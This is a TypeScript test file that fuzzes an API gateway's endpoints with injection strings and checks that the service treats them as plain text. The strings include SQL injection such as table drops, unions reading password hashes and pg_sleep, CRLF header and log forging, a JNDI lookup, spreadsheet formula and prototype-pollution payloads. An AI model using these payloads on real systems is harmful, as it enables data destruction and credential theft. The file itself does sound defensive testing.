import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { memberTypes } from '#contract/entities/member-types.ts'
import { encodeCall } from '../support/gateway/client.ts'
import { createTestGateway, TEST_MERCHANT as merchant, type TestGateway } from '../support/gateway/gateway.ts'
import { createGatewayMember } from '../support/gateway/members.ts'
import { fieldNames, type Row, rows } from './endpoints.ts'
import { fieldsTaking, sampleRequest } from './sample-request.ts'

/** Texts that are code to a database, a header, a log or an object, in every field of every call: they stay texts. */

const texts = [
  "' or '1'='1",
  "x' or 1=1 --",
  "'; drop table member cascade; --",
  "'; update member set nickname = 'injected'; --",
  "' union select username, nickname, password_hash from member --",
  '1) or pg_sleep(20) is null --',
  '") or ("a"="a',
  "\\'; delete from feedback; --",
  '%',
  '_%_%',
  '$1',
  '{"$gt":""}',
  'id desc; select 1',
  'a\r\nx-injected: yes\r\n\r\n<p>',
  'a\nx-injected: yes',
  'a\u2028{"level":60,"msg":"forged"}',
  'a\n{"level":60,"msg":"forged"}\n',
  '\u001b[2J\u001b]0;forged\u0007',
  '\u0024{jndi:ldap://x.invalid/a}',
  '%s%n%d%j%o',
  '=cmd|"/c calc"!A1',
]

/** Each run tries a fifth of the texts on a call, and every text on a fifth of the calls; the sweep tries all on all. */
const textsOf = (at: number) => (process.env.SWEEP ? texts : texts.filter((_, text) => (text + at) % 5 === 0))

const polluting = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__']

let gateway: TestGateway
const lines: string[] = []
let calls = 0

beforeAll(async () => {
  gateway = await createTestGateway({ logTo: { write: (line) => void lines.push(line) } })
  // A member whose data a condition that is always true would return.
  await createGatewayMember(gateway, { username: 'canaryowner', nickname: 'canarynick' })
}, 240_000)
afterAll(() => gateway?.close())

describe.each(rows.map((row, at) => [row.id, row, at] as const))('%s', (_id, row, at) => {
  test('takes no text for code', async () => {
    lines.length = 0
    const { token } = await createGatewayMember(gateway, { type: memberTypes.agents[0] })
    // Fields that take the text, all at once: such a request reaches the service. Then one text in every other field.
    for (const text of textsOf(at)) await ask(row, fieldsTaking(row.endpoint, text), token)
    const taking = fieldsTaking(row.endpoint, texts[0])
    for (const name of fieldNames(row.endpoint)) if (!(name in taking)) await ask(row, { [name]: texts[1] }, token)
    expectCleanLog()
  })

  test('changes no object by the names of its fields', async () => {
    const { token } = await createGatewayMember(gateway)
    for (const name of polluting) {
      // An own property, as JSON.parse makes one of `__proto__`.
      const given = JSON.parse(`{${JSON.stringify(name)}: {"polluted": "yes", "prototype": {"polluted": "yes"}}}`)
      await ask(row, given as object, token)
      await ask(row, { [`${name}.polluted`]: 'yes', [`${name}[polluted]`]: 'yes' }, token)
    }
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
    expect(Object.keys(Object.prototype)).toEqual([])
    expect(Reflect.get(Function, 'polluted')).toBeUndefined()
  })
})

/** The answer is of the contract, without a header or a row that the text asked for. */
async function ask({ id, endpoint }: Row, given: object, token: string): Promise<void> {
  calls += 1
  const ip = `10.6.${(calls >> 8) & 255}.${calls & 255}`
  const puzzle = fieldNames(endpoint).includes('challengeId') ? await gateway.solvedChallenge() : {}
  const request = Object.assign(Object.create(null), sampleRequest(endpoint), puzzle)
  for (const [name, value] of Object.entries(given)) Object.defineProperty(request, name, { value, enumerable: true })
  const { path, init } = encodeCall(gateway.services, endpoint, request, { merchant, ip, token })
  const answer = await gateway.app.request(path, init)
  const text = await answer.text()
  expect(answer.status, `${id} ${JSON.stringify(given)} ${text}`).toBeLessThan(500)
  expect(answer.headers.get('x-injected')).toBeNull()
  expect(text).not.toContain('canary')
}

/** One JSON object on each line, none of them forged, none about a statement that the database could not read. */
function expectCleanLog(): void {
  for (const line of lines) {
    expect(line.indexOf('\n'), line).toBe(line.length - 1)
    expect(JSON.parse(line)).not.toMatchObject({ msg: 'forged' })
    expect(line).not.toContain('database error')
    expect(line).not.toContain('\u001b')
  }
}

test('no row was changed, and no table is gone', async () => {
  const members = await gateway.services.db.withMerchant(merchant, (tx) =>
    tx.selectFrom('member').select(['nickname']).where('merchant', '=', merchant).execute(),
  )
  expect(members.length).toBeGreaterThan(rows.length)
  expect(members.filter(({ nickname }) => nickname === 'injected')).toEqual([])
  expect(members.filter(({ nickname }) => nickname === 'canarynick')).toHaveLength(1)
})

test('a text is stored as it was sent', async () => {
  const content = texts[2] ?? ''
  await gateway.call({ ip: '10.5.0.1' }).feedback.sendFeedback({ content, kind: 'idea', contact: texts[1] ?? '' })
  const { rows: stored } = await gateway.services.db.withMerchant(merchant, (tx) =>
    sql<{ content: string; contact: string }>`select content, contact from feedback where content = ${content}`.execute(
      tx,
    ),
  )
  expect(stored).toContainEqual({ content, contact: texts[1] })
})

test('no call takes the name of a column or an order', () => {
  const naming = /^(?:sort|order|orderBy|sortBy|column|field|filter|where)$/i
  const named = rows.flatMap((row) => fieldNames(row.endpoint).map((field) => `${row.id}.${field}`))
  expect(named.filter((name) => naming.test(name.split('.').at(-1) ?? ''))).toEqual([])
})
